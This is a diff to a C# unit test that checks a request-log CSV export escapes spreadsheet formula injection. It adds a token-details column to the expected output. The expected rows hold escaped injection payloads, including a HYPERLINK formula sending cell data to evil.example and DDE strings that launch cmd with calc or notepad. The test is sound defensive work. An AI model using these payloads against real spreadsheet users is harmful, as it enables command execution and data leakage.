@@ -58,15 +58,16 @@ public sealed class RequestLogExportInjectionTests(InjectionDataFactory data) : 
         var ids = data.Requests.Select(r => r.Id).ToArray();
         var userId = data.Formulaic.Id;
         const string Tail = ",,,,,US,198.51.100.9,";
+        const string TokenDetails = ",,,,False"; // cached input, cache writes, reasoning: none; not estimated
         raw.Should().Be(
             string.Join(',', RequestLogDto.Columns) + "\r\n" +
-            $"{ids[0]},2026-03-01T00:00:00.000Z,/v1/chat/completions,POST,200,-1.5,,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\"{Tail}{userId},\"'=cmd|' /C notepad'!A1\",,\r\n" +
-            $"{ids[1]},2026-03-01T00:01:00.000Z,/v1/chat/completions,POST,200,12.5,,\"'+cmd|' /C calc'!A0\"{Tail},,,\r\n" +
-            $"{ids[2]},2026-03-01T00:02:00.000Z,/v1/chat/completions,POST,200,12.5,,\"'-2+3\"{Tail},,,\r\n" +
-            $"{ids[3]},2026-03-01T00:03:00.000Z,/v1/chat/completions,POST,200,12.5,,\"'@SUM(1+1)*cmd|' /C calc'!A0\"{Tail},,,\r\n" +
-            $"{ids[4]},2026-03-01T00:04:00.000Z,/v1/chat/completions,POST,200,12.5,,\"'\t=1+1\"{Tail},,,\r\n" +
-            $"{ids[5]},2026-03-01T00:05:00.000Z,/v1/chat/completions,POST,200,12.5,,\"'\r=1+1\"{Tail},,,\r\n" +
-            $"{ids[6]},2026-03-01T00:06:00.000Z,/v1/chat/completions,POST,200,12.5,,gpt-4o=1{Tail},,,\r\n");
+            $"{ids[0]},2026-03-01T00:00:00.000Z,/v1/chat/completions,POST,200,-1.5,,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\"{Tail}{userId},\"'=cmd|' /C notepad'!A1\",,{TokenDetails}\r\n" +
+            $"{ids[1]},2026-03-01T00:01:00.000Z,/v1/chat/completions,POST,200,12.5,,\"'+cmd|' /C calc'!A0\"{Tail},,,{TokenDetails}\r\n" +
+            $"{ids[2]},2026-03-01T00:02:00.000Z,/v1/chat/completions,POST,200,12.5,,\"'-2+3\"{Tail},,,{TokenDetails}\r\n" +
+            $"{ids[3]},2026-03-01T00:03:00.000Z,/v1/chat/completions,POST,200,12.5,,\"'@SUM(1+1)*cmd|' /C calc'!A0\"{Tail},,,{TokenDetails}\r\n" +
+            $"{ids[4]},2026-03-01T00:04:00.000Z,/v1/chat/completions,POST,200,12.5,,\"'\t=1+1\"{Tail},,,{TokenDetails}\r\n" +
+            $"{ids[5]},2026-03-01T00:05:00.000Z,/v1/chat/completions,POST,200,12.5,,\"'\r=1+1\"{Tail},,,{TokenDetails}\r\n" +
+            $"{ids[6]},2026-03-01T00:06:00.000Z,/v1/chat/completions,POST,200,12.5,,gpt-4o=1{Tail},,,{TokenDetails}\r\n");
     }
 
     [Fact]
